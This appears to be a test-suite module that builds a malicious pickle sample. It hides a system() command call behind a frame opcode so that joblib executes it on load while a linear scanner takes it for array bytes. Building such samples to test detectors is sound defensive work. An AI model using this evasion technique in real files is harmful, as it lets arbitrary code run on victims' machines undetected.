"""A frame reaches over a wrapper's BUILD: joblib reads the array from behind the frame and
runs what a linear reader takes for its bytes."""

from __future__ import annotations

from malicious_samples.recipes import system
from tests.builder import Pickle


def build(canary: str) -> bytes:
    # The frame: a list, the wrapper, and opcodes that look like the array to a linear reader.
    hidden = bytes(Pickle(0).save(system(canary)).pop().append().stop())

    framed = bytes(
        Pickle(4).empty_list().array(b"", shape=(len(hidden),), dtype="|u1", alignment=None)
    )[2:]
    frame = Pickle(4).frame(len(framed) + len(hidden)).raw(framed + hidden)
    return bytes(frame) + bytes(len(hidden))
